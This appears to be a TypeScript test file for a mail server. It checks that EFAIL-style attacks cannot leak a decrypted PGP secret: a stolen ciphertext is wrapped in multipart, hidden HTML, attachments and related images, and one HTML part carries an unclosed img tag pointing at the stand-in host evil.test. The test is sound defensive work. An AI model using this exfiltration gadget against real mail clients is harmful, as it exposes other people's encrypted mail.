import assert from 'node:assert/strict'
import { after, before, describe, it } from 'node:test'
import { type House, startHouse } from '#src/testing.ts'
import { newReader, type Reader, send } from '../guests/reader.ts'
import { container, encryptedPart, part, SECRET } from './efail-samples.ts'
import { messageIn, type Person, person } from './people.ts'

describe('a guest’s page opens one mail at a time', () => {
  let house: House
  let eve: Person
  let ann: Reader
  /** What Ada wrote to the guest, as Eve has it. */
  let stolen: string
  before(async () => {
    house = await startHouse()
    const ada = await person(house, 'ada')
    eve = await person(house, 'eve')
    ann = await newReader(house, ada, 'ann@stranger.example', `${SECRET}\r\n`)
    const [id] = await ann.ids()
    const { text } = await ann.call('GET', `/items/${id}/original`)
    stolen = /-----BEGIN PGP MESSAGE-----[\s\S]*?-----END PGP MESSAGE-----\r\n/.exec(text)![0]
    const opened = await ann.call('GET', `/items/${id}`)
    assert.ok(opened.json.text.includes(SECRET), opened.text)
  })
  after(() => house.stop())

  it('what is hidden in another stays hidden, wherever it is looked at, and in the answer to it', async () => {
    const lunch = part('text/html', 'Lunch? <img src="http://evil.test/?')
    for (const [what, content] of Object.entries({
      'as a part of its own': container('multipart/mixed', lunch, encryptedPart(stolen)),
      'as another way to say it': container('multipart/alternative', encryptedPart(stolen), lunch),
      'as armor behind the text': part('text/plain', `Lunch?\r\n\r\n\r\n${stolen}`),
      'as a page': part('text/html', `Lunch?<div style="display:none"><pre>${stolen}</pre></div>`),
      'as an attached mail': container('multipart/mixed', lunch, part('message/rfc822', encryptedPart(stolen))),
      'as a picture of the page': container(
        'multipart/related',
        part('text/html', '<img src="cid:s">'),
        part('image/png', stolen, 'Content-ID: <s>\n'),
      ),
    })) {
      const [fields = '', ...body] = content.split('\r\n\r\n')
      const [, type = ''] = /^Content-Type: (.*)$/m.exec(fields)!
      const header = { To: ann.address, Subject: 'Lunch', 'MIME-Version': '1.0', 'Content-Type': type }
      // What is newer stands before what is older.
      house.clock.turn(1000)
      await send(eve, header, { body: body.join('\r\n\r\n') })
      const [id] = await ann.ids()
      const read = async (path = '') => {
        const reply = await ann.call('GET', `/items/${id}${path}`)
        assert.equal(reply.status, 200, `${what}${path}: ${reply.text}`)
        assert.ok(!reply.text.includes(SECRET), `${what}${path}: ${reply.text}`)
        return reply
      }
      const { json } = await read()
      assert.ok(!json.html.includes('evil.test'), what)
      assert.equal(json.headers.from[0].address, eve.email, what)
      for (const { index } of json.attachments) await read(`/attachments/${index}`)
      assert.ok(!(await read('/view')).text.includes('evil.test'), what)
      await read('/plain')
    }
    const [id] = await ann.ids()
    const answered = await ann.call('POST', `/items/${id}/reply`, { json: { text: 'Yes' } })
    assert.equal(answered.status, 200, answered.text)
    let mail = await house.inbox.next(eve.email)
    while (!mail.raw.includes('-----BEGIN PGP MESSAGE-----')) mail = await house.inbox.next(eve.email)
    const message = messageIn(await eve.decrypt(mail.raw)).toString()
    assert.ok(message.includes('Yes') && !message.includes(SECRET), message)
  })
})
